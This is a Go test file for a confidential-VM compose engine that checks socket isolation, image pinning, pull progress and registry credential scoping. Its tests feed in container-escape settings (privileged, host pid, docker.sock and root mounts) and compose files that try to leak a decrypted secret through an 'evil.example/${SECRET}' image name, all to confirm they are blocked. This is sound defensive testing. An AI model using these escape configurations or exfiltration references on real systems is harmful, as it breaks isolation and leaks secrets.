package compose

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/confidential-cloud/phala/appcompose"
	"github.com/confidential-cloud/phala/cvm"
	"github.com/confidential-cloud/phala/guest-agent/guestapi"
	"github.com/confidential-cloud/phala/keys"
)

// realCompose is an engine that asks the real docker-compose; PHALA_COMPOSE names
// the guests' own.
func realCompose(t *testing.T) *Engine {
	t.Helper()
	e := engine(t)
	if p := os.Getenv("PHALA_COMPOSE"); p != "" {
		e.cfg.Compose = p
	} else if b, err := exec.Command("docker-compose", "version").CombinedOutput(); err != nil {
		t.Skipf("SKIPPED: docker-compose is not here (PHALA_COMPOSE may name it): %s", b)
	}
	return e
}

func (e *Engine) modelOf(t *testing.T, text string, env ...keys.EnvVar) *model {
	t.Helper()
	if err := os.WriteFile(e.composeFile(), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	m, err := e.resolve(t.Context(), env, e.cfg.WorkDir, e.composeFile())
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func testSockets() Sockets {
	return Sockets{Dstack: []string{"/var/run/dstack.sock", "/run/dstack.sock"}, Tappd: []string{"/var/run/tappd.sock", "/run/tappd.sock"},
		Open: func(s string) (string, string, error) { return "/own/" + s + "/d", "/own/" + s + "/t", nil }}
}

func policyOf(t *testing.T, p string) *appcompose.SocketPolicy {
	t.Helper()
	var v appcompose.SocketPolicy
	if err := json.Unmarshal([]byte(p), &v); err != nil {
		t.Fatal(err)
	}
	return &v
}

const onlyWeb = `{"default":"reference","containers":{"web":{"keys":["a"]}}}`

// TestOwnSockets: the override, merged by Compose itself, mounts a limited service's
// own sockets where it asked for the shared ones, and leaves the others alone.
func TestOwnSockets(t *testing.T) {
	e := realCompose(t)
	text := "services:\n  web:\n    image: a\n    volumes: ['/var/run/dstack.sock:/var/run/dstack.sock', '/run/tappd.sock:/tap:ro', 'data:/data', './files:/f']\n" +
		"  db:\n    image: b\n    privileged: true\n    volumes: ['/var/run/dstack.sock:/var/run/dstack.sock']\nvolumes: {data: {}}\n"
	m := e.modelOf(t, text)
	b, err := e.isolate(m, policyOf(t, onlyWeb), testSockets())
	if err != nil {
		t.Fatal(err)
	}
	if err := e.writeOverride(b); err != nil {
		t.Fatal(err)
	}
	merged, err := e.resolve(t.Context(), nil, e.cfg.WorkDir, e.composeFile(), "--format", "json")
	if err != nil || merged == nil {
		t.Fatal(err)
	}
	out := &capped{max: maxModel}
	if err := e.run(t.Context(), nil, out, out, e.cfg.Compose, "--project-directory", e.cfg.WorkDir, "--file", e.composeFile(), "--file", e.overrideFile(), "config", "--format", "json"); err != nil {
		t.Fatal(err, out.b.String())
	}
	var got model
	if err := json.Unmarshal(out.b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	for s, want := range map[string]map[string]string{
		"web": {"/var/run/dstack.sock": "/own/web/d", "/tap": "/own/web/t", "/data": "data", "/f": filepath.Join(e.cfg.WorkDir, "files")},
		"db":  {"/var/run/dstack.sock": "/var/run/dstack.sock"},
	} {
		var vols []mount
		if err := json.Unmarshal(got.Services[s]["volumes"], &vols); err != nil || len(vols) != len(want) {
			t.Errorf("%s: %v %v", s, vols, err)
		}
		for _, v := range vols {
			if want[v.Target] != v.Source {
				t.Errorf("%s: %s is %s", s, v.Target, v.Source)
			}
		}
	}
}

// TestLimitedServicesCannotGoAround: every way of a compose file to another's socket.
func TestLimitedServicesCannotGoAround(t *testing.T) {
	e := realCompose(t)
	for name, web := range map[string]string{
		"privileged": "privileged: true", "pid of the host": "pid: host", "pid of another": "pid: 'service:db'", "capability": "cap_add: [SYS_ADMIN]",
		"devices": "devices: ['/dev/vda:/dev/vda']", "volumes of another": "volumes_from: [db]", "root": "volumes: ['/:/host']", "run": "volumes: ['/run:/r']",
		"var run": "volumes: ['/var/run:/r']", "docker": "volumes: ['/var/run/docker.sock:/var/run/docker.sock']", "own sockets of others": "volumes: ['/var/run/phala-sockets:/s']",
		"up": "volumes: ['../x:/x']", "work directory": "volumes: ['.:/x']", "below its own": "volumes: ['./a/b:/x']", "hidden": "volumes: ['./.host-shared:/x']", "script": "volumes: ['./pre_launch_script.sh:/x']",
		"override": "volumes: ['./socket-policy.json:/x']", "proc": "volumes: ['/proc:/p']", "driver": "volumes: ['drv:/x']", "external": "volumes: ['ext:/x']",
		"secret file": "secrets: [s]", "config file": "configs: [c]", "seccomp": "security_opt: ['seccomp:unconfined']", "user namespace": "userns_mode: host",
		"cgroup": "cgroup: host", "ipc": "ipc: host", "runtime": "runtime: x", "network of another": "network_mode: 'service:db'", "parent": "cgroup_parent: /",
	} {
		text := "services:\n  web:\n    image: a\n    " + web + "\n  db:\n    image: b\nvolumes:\n  drv: {driver_opts: {type: none, o: bind, device: /run}}\n  ext: {external: true}\n" +
			"secrets: {s: {file: /var/run/dstack.sock}}\nconfigs: {c: {file: /var/run/dstack.sock}}\n"
		m := e.modelOf(t, text)
		if _, err := e.isolate(m, policyOf(t, onlyWeb), testSockets()); cvm.ReasonOf(err) != ReasonPolicy {
			t.Errorf("%s: %v", name, err)
		}
		if b, err := e.isolate(m, nil, testSockets()); b != nil || err != nil {
			t.Errorf("%s, no policy: %s %v", name, b, err)
		}
	}
	m := e.modelOf(t, "services:\n  db:\n    image: b\n")
	if _, err := e.isolate(m, policyOf(t, onlyWeb), testSockets()); cvm.ReasonOf(err) != ReasonPolicy {
		t.Errorf("a service that is not there: %v", err)
	}
	if _, err := e.isolate(m, policyOf(t, `{"default":"none"}`), testSockets()); err != nil {
		t.Errorf("an ordinary service: %v", err)
	}
	if _, err := e.isolate(e.modelOf(t, "services:\n  db:\n    image: b\n    pid: host\n"), policyOf(t, `{"default":"none"}`), testSockets()); cvm.ReasonOf(err) != ReasonPolicy {
		t.Errorf("default none limits who is not named: %v", err)
	}
}

func TestImages(t *testing.T) {
	e := realCompose(t)
	digest := "b@sha256:" + strings.Repeat("ab", 32)
	m := e.modelOf(t, "services:\n  a:\n    image: ${IMG}:1\n  b:\n    image: "+digest+"\n  c:\n    image: "+digest+"\n  d:\n    build: .\n", keys.EnvVar{Key: "IMG", Value: "hush-hush"})
	if got := m.images(); len(got) != 2 || got[0].ref != "hush-hush:1" || len(got[1].services) != 2 {
		t.Errorf("%+v", got)
	}
	uses := m.report()
	if len(uses) != 4 || uses[0].Pinned || !uses[1].Pinned || !uses[3].Built || uses[3].Pinned {
		t.Errorf("%+v", uses)
	}
	if got := Unpinned(uses); len(got) != 2 {
		t.Errorf("%q", got)
	}
	_ = os.WriteFile(e.composeFile(), []byte("services:\n  a:\n    image: {"), 0o600)
	if _, err := e.resolve(context.Background(), nil, e.cfg.WorkDir, e.composeFile()); cvm.CodeOf(err) != cvm.Invalid {
		t.Errorf("a broken file: %v", err)
	}
}

// TestPrepareGivesNothingAway: the new file is the host's; no value of the
// environment and no file of the guest may leave through an image's name or an error.
func TestPrepareGivesNothingAway(t *testing.T) {
	e := realCompose(t)
	if err := os.MkdirAll(filepath.Join(e.cfg.WorkDir, ".host-shared"), 0o700); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(e.cfg.WorkDir, ".host-shared", ".decrypted-env")
	for _, f := range []string{secret, filepath.Join(e.cfg.WorkDir, ".env")} {
		if err := os.WriteFile(f, []byte("SECRET='hush-hush'\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{
		"variable": "services:\n  a:\n    image: evil.example/${SECRET}\n", "include": "include:\n- path: " + secret + "\nservices: {}\n",
		"include with its environment": "include:\n- path: x.yaml\n  env_file: " + secret + "\nservices:\n  a: {image: 'evil.example/${SECRET}'}\n",
		"extends":                      "services:\n  a:\n    extends: {file: " + secret + ", service: x}\n",
	} {
		m, err := e.unresolved(t.Context(), text)
		b, _ := json.Marshal(m)
		if strings.Contains(string(b), "hush") || (err != nil && strings.Contains(err.Error(), "hush")) {
			t.Errorf("%s: %s %v", name, b, err)
		}
		if err == nil && !strings.Contains(m.images()[0].ref, "$") {
			t.Errorf("%s: %+v", name, m.images())
		}
	}
	left, err := filepath.Glob(filepath.Join(e.cfg.WorkDir, "prepare-*"))
	if err != nil || len(left) != 0 {
		t.Errorf("left behind: %q", left)
	}
}

func TestPrepareOneAtATime(t *testing.T) {
	e := engine(t)
	e.preparing.Lock()
	err := e.Prepare(t.Context(), &appcompose.Document{}, nil, func(guestapi.PullProgress) {})
	if cvm.CodeOf(err) != cvm.Conflict {
		t.Errorf("two at once: %v", err)
	}
}

func TestPullProgress(t *testing.T) {
	e := engine(t)
	var got []guestapi.PullProgress
	tell := func(p guestapi.PullProgress) { got = append(got, p) }
	in := `{"status":"Pulling from x","id":"latest"}{"status":"Downloading","id":"a","progressDetail":{"current":5,"total":10}}` +
		`{"status":"Downloading","id":"b","progressDetail":{"current":99,"total":20}}{"status":"Download complete","id":"a","progressDetail":{}}`
	if err := e.follow(t.Context(), "x", strings.NewReader(in), tell); err != nil {
		t.Fatal(err)
	}
	if last := got[len(got)-1]; last != (guestapi.PullProgress{Image: "x", State: "done", Done: 30, Total: 30}) {
		t.Errorf("%+v", got)
	}
	if err := e.follow(t.Context(), "x", strings.NewReader(`{"error":"no such image"}`), nil); err == nil || err.Error() != "no such image" {
		t.Errorf("%v", err)
	}
	if err := e.follow(t.Context(), "x", strings.NewReader(`{"status":`), nil); err == nil {
		t.Error("an answer that was cut off")
	}
}

func TestCredentialsGoToTheirRegistryOnly(t *testing.T) {
	for ref, want := range map[string]string{"nginx": "docker.io", "me/app:1": "docker.io", "docker.io/x": "docker.io", "index.docker.io/a/b": "docker.io", "ghcr.example/a/b": "ghcr.example",
		"10.0.0.1:5000/a": "10.0.0.1:5000", "localhost/a": "localhost", "ghcr.example.evil/a": "ghcr.example.evil"} {
		if got := registryOf(ref); got != want {
			t.Errorf("%s: %s, want %s", ref, got, want)
		}
	}
}

func FuzzPullProgress(f *testing.F) {
	f.Add([]byte(`{"status":"Downloading","id":"a","progressDetail":{"current":-5,"total":10}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		e := &Engine{}
		_ = e.follow(t.Context(), "x", strings.NewReader(string(b)), func(p guestapi.PullProgress) {
			if p.Done > p.Total && p.Total > 0 && p.Done > 0 {
				t.Errorf("%+v", p)
			}
		})
	})
}
